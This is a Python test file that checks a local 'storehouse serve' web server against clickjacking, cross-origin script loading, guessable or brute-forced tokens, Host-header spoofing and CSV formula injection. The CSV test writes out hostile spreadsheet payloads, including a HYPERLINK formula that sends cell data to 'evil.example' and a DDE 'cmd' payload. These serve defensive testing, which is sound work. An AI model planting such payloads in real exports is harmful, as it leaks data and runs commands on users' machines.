"""Attacks on a real ``storehouse serve`` about headers and tokens (issue #13 item 11), each reproduced and shown
to hold:

- another site frames the page (clickjacking), or loads a task's markdown context with ``<script src>``, in a
  real Chromium on another loopback address (127.0.0.2 is another origin, and all of 127/8 is loopback here);
- a token too short to resist guessing, refused at start; a peer guessing tokens, slowed down;
- a CSV export whose cells a spreadsheet would run as formulas;
- a server bound to 127.0.0.2 that refused requests to its own URL.
"""

from __future__ import annotations

import contextlib
import http.server
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from storehouse import Storehouse
from storehouse.config import MAKE_A_TOKEN
from tests.conftest import Server, free_port

TOKEN = "s3cret-Token_headers-attack"


class _Page(http.server.BaseHTTPRequestHandler):
    html = b""

    def do_GET(self) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(self.html)))
        self.end_headers()
        self.wfile.write(self.html)

    def log_message(self, *_: object) -> None:
        pass


@contextlib.contextmanager
def page_on(address: str, html: str) -> Iterator[str]:
    """Serve html at http://address:<port>/ (another site than the server's) from a thread; yields its URL."""
    site = http.server.ThreadingHTTPServer((address, free_port()), type("Page", (_Page,), {"html": html.encode()}))
    threading.Thread(target=site.serve_forever, daemon=True).start()
    try:
        yield f"http://{address}:{site.server_address[1]}/"
    finally:
        site.shutdown()
        site.server_close()


def chromium() -> str:
    from tests.servers import chromium_path

    try:
        return chromium_path()
    except RuntimeError as exc:
        pytest.skip(str(exc))


@pytest.mark.attack("framing by another site")
def test_a_page_on_another_site_cannot_frame_the_web_page(data_dir: Path) -> None:
    from playwright.sync_api import sync_playwright

    executable = chromium()
    server = Server(data_dir)
    try:
        for path in ("/", "/docs", "/api/projects"):
            headers = httpx.get(f"{server.url}{path}").headers
            assert "frame-ancestors 'self'" in headers["content-security-policy"]
            assert headers["x-frame-options"] == "SAMEORIGIN"
        html = f'<!doctype html><iframe id="victim" src="{server.url}/"></iframe>'
        with page_on("127.0.0.2", html) as url, sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=executable, headless=True)
            try:
                page = browser.new_page()
                console: list[str] = []
                page.on("console", lambda message: console.append(message.text))
                page.goto(url)
                page.wait_for_timeout(500)
                [victim] = [frame for frame in page.frames if frame != page.main_frame]
                # a refused frame is left on Chromium's error page: the storehouse page never loads in it
                assert not victim.url.startswith(server.url), victim.url
                assert any("frame-ancestors" in text for text in console), console
            finally:
                browser.close()
    finally:
        server.stop()


@pytest.mark.attack("markdown context as a script")
def test_a_page_on_another_site_cannot_load_the_markdown_context_as_a_script(data_dir: Path) -> None:
    from playwright.sync_api import sync_playwright

    executable = chromium()
    with Storehouse(data_dir) as store:
        store.create_task("demo", {"id": "T-7", "title": "leak"})
    server = Server(data_dir)
    context = f"{server.url}/api/projects/demo/tasks/T-7/context"
    try:
        headers = httpx.get(context).headers
        assert headers["content-type"] == "text/markdown; charset=utf-8"
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["cross-origin-resource-policy"] == "same-origin"
        html = f"""<!doctype html><script>
window.outcome = new Promise((done) => {{
  const script = document.createElement("script");
  script.src = "{context}";
  script.onload = () => done("loaded");
  script.onerror = () => done("blocked");
  document.head.append(script);
}});
</script>"""
        with page_on("127.0.0.2", html) as url, sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=executable, headless=True)
            try:
                page = browser.new_page()
                page.goto(url)
                assert page.evaluate("window.outcome") == "blocked"
            finally:
                browser.close()
    finally:
        server.stop()


def serve(data_dir: Path, *flags: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    """Run ``storehouse serve`` expecting it to refuse at once (the port is free, so it would serve otherwise)."""
    command = [sys.executable, "-m", "storehouse", "serve", "--data-dir", str(data_dir), "--port", str(free_port())]
    return subprocess.run(
        [*command, *flags], env={**os.environ, **(env or {})}, capture_output=True, text=True, timeout=30, check=False
    )


@pytest.mark.attack("short token")
@pytest.mark.parametrize("token", ["s3cret", "a" * 15, " " * 32])
def test_serve_refuses_a_guessable_token_at_start(data_dir: Path, token: str) -> None:
    for refused in (serve(data_dir, "--token", token), serve(data_dir, env={"STOREHOUSE_TOKEN": token})):
        assert refused.returncode == 1
        message = " ".join(refused.stderr.split())  # the console wraps long lines
        assert message.startswith("error: the token (--token or STOREHOUSE_TOKEN)"), message
        assert "shorter than 16" in message or "whitespace" in message
        assert MAKE_A_TOKEN in message


def guess(server: Server, token: str, peer: str) -> tuple[int, float]:
    """GET /api/projects with token from the loopback address peer; the status and the seconds it took."""
    started = time.monotonic()
    transport = httpx.HTTPTransport(local_address=peer)
    with httpx.Client(transport=transport, timeout=30) as client:
        status = client.get(f"{server.url}/api/projects", headers={"Authorization": f"Bearer {token}"}).status_code
    return status, time.monotonic() - started


@pytest.mark.attack("token guessing")
def test_a_peer_guessing_tokens_is_slowed_down_but_not_the_right_token_or_others(data_dir: Path) -> None:
    server = Server(data_dir, "--token", TOKEN)
    try:
        quick = [guess(server, f"guess-{n}", "127.0.0.3") for n in range(5)]
        assert all(status == 401 and took < 0.5 for status, took in quick), quick
        assert guess(server, "guess-6", "127.0.0.3")[1] >= 0.9  # each further wrong token waits a second
        status, took = guess(server, TOKEN, "127.0.0.3")
        assert (status, took < 0.5) == (200, True)
        status, took = guess(server, "a-first-guess", "127.0.0.4")
        assert (status, took < 0.5) == (401, True)
    finally:
        server.stop()


@pytest.mark.attack("csv formula injection")
def test_a_csv_export_runs_no_formula_in_a_spreadsheet(server: Server) -> None:
    import csv
    import io

    payloads = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\n=1"]
    for n, payload in enumerate(payloads):
        body = {"id": f"r{n}", "name": payload, "status": "failed", "error": payload, "tags": [payload]}
        assert httpx.post(f"{server.url}/api/projects/demo/executions", json=body).status_code == 201
    answer = httpx.get(f"{server.url}/api/projects/demo/executions/export?format=csv")
    header, *rows = list(csv.reader(io.StringIO(answer.text, newline="")))
    for row in rows:
        cells = dict(zip(header, row, strict=True))
        for column in ("name", "error", "tags"):
            assert cells[column].startswith("'"), (column, cells[column])


@pytest.mark.attack("127.0.0.2 refuses its own url")
def test_a_server_bound_to_127_0_0_2_answers_requests_to_its_own_url(data_dir: Path) -> None:
    port = free_port()
    command = [sys.executable, "-m", "storehouse", "serve", "--data-dir", str(data_dir), "--host", "127.0.0.2"]
    process = subprocess.Popen([*command, "--port", str(port), "--log-level", "warning"], env=os.environ.copy())
    url = f"http://127.0.0.2:{port}"
    try:
        deadline = time.monotonic() + 30
        while True:
            try:
                with socket.create_connection(("127.0.0.2", port), timeout=1):
                    break
            except OSError:
                assert process.poll() is None, "the server exited"
                assert time.monotonic() < deadline, "the server did not start within 30 s"
                time.sleep(0.05)
        assert httpx.get(f"{url}/api/projects").status_code == 200
        assert httpx.get(f"{url}/").status_code == 200
        assert httpx.get(f"{url}/api/projects", headers={"Host": "evil.example"}).status_code == 403
    finally:
        process.terminate()
        process.wait(10)
